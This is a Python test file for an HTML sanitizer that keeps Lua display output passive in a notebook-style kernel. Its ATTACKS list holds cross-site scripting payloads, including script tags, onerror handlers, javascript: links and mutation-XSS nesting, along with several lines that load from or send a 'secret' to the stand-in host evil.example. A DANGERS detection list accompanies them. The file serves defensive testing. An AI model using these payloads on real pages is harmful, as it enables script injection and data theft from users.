"""What Lua shows looks as it was meant and cannot act: no script, nothing loaded, nothing sent."""

from __future__ import annotations

from typing import Any

import pytest

from llmspell_kernel.display.bundle import mime_bundle_of
from llmspell_kernel.display.sanitize import passive_bundle, passive_html

LOOKS = [
    "<h1>Title</h1><p>text <b>bold</b> <i>x</i></p>",
    '<table style="border:1px solid red"><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
    '<details open=""><summary>more</summary>text</details>',
    '<meter value="0.5" max="1"></meter><progress value="1" max="3"></progress>',
    '<div style="color:red;text-align:right">x</div>',
    '<img src="data:image/png;base64,AA==" alt="dot">',
]

ATTACKS = [
    "<script>fetch('/api/contents')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/lab?reset'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x'>",
    "<img src='https://evil.example/?secret=1'>",
    "<img src='//evil.example/x'>",
    "<img srcset='https://evil.example/x 1x'>",
    "<video poster='https://evil.example/x'></video>",
    "<img src='data:image/svg+xml;base64,AA=='>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<div style=\"background:url('https://evil.example/x')\">x</div>",
    '<div style="background-color:red;width:calc(1px);list-style:url(//evil.example)">x</div>',
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example'>",
    "<form action='https://evil.example'><input name=key><button>go</button></form>",
    "<button data-commandlinker-command='terminal:create-new'>x</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div id='jp-main' name='body'>x</div>",
    "<<script>script>alert(1)</script>",
    "<p title='\"><script>alert(1)</script>'>x",
]
DANGERS = [
    "<script",
    "onerror=",
    "onload",
    "javascript:",
    "data:text",
    "evil.example",
    "<iframe",
    "<object",
    "<embed",
    "<style",
    "<link",
    "<meta",
    "<base",
    "<form",
    "<input",
    "<svg",
    "position:",
    "data-commandlinker",
    "id=",
    "/lab",
    "svg+xml",
]


@pytest.mark.parametrize("markup", LOOKS)
def test_looks_are_kept(markup: str) -> None:
    assert passive_html(markup) == markup


def test_links_open_elsewhere_without_telling_where_from() -> None:
    assert passive_html("<a href='https://lua.org'>x</a>") == (
        '<a href="https://lua.org" rel="noopener noreferrer nofollow">x</a>'
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts(attack: str) -> None:
    shown = passive_html(attack).replace("&lt;", "").replace("&quot;", "")
    assert not [danger for danger in DANGERS if danger in shown.lower() and "title=" not in shown]
    assert passive_html(passive_html(attack)) == passive_html(attack)


def test_types_that_act_are_left_out_and_named() -> None:
    assert passive_bundle({"text/plain": "x", "application/javascript": "alert(1)"}) == {
        "text/plain": "x\n-- left out, for it could act in this page: application/javascript"
    }


def test_what_was_taken_out_of_html_is_told() -> None:
    bundle = passive_bundle(
        {"text/html": "<b>x</b><script>1</script><img src='https://a/b'>", "text/plain": "x"}
    )
    assert bundle == {
        "text/html": "<b>x</b><img><p><small>(left out, for it could act in this page: "
        "script, remote content)</small></p>",
        "text/plain": "x",
    }


def test_a_chart_that_loads_data_is_left_out() -> None:
    mime = "application/vnd.vegalite.v5+json"
    whole = {mime: {"data": {"values": [{"a": 1}]}, "mark": "bar"}, "text/plain": "chart"}
    assert passive_bundle(whole) == whole
    assert mime not in passive_bundle({mime: {"layer": [{"data": {"url": "https://evil.example"}}]}})


def test_images_and_data_are_kept() -> None:
    bundle: dict[str, Any] = {
        "image/png": "iVBORw==",
        "image/svg+xml": "<svg/>",
        "application/json": {"a": [1]},
        "text/latex": "$x$",
        "text/csv": "a,b",
        "audio/wav": "AA==",
        "text/plain": "x",
    }
    assert passive_bundle(bundle) == bundle


def test_markdown_is_drawn_here_so_that_its_html_cannot_act() -> None:
    bundle = passive_bundle({"text/markdown": "*x* <script>alert(1)</script>"})
    assert bundle["text/html"].endswith(
        "<p><em>x</em> &lt;script&gt;alert(1)&lt;/script&gt;</p>\n</div></div>"
    )


def test_values_of_a_spell_pass_through_here(draw: Any) -> None:
    shown = draw("return setmetatable({}, {__html = function() return '<b>x</b><script>1</script>' end})")
    assert shown["text/html"].startswith("<b>x</b><p>")
    assert "<script" not in mime_bundle_of({"text/html": "<script>1</script>"})["text/html"]


def test_a_session_may_be_granted_active_displays() -> None:
    bundle = {"text/html": "<script>1</script>", "text/plain": "x"}
    assert mime_bundle_of(bundle, active=True) == bundle
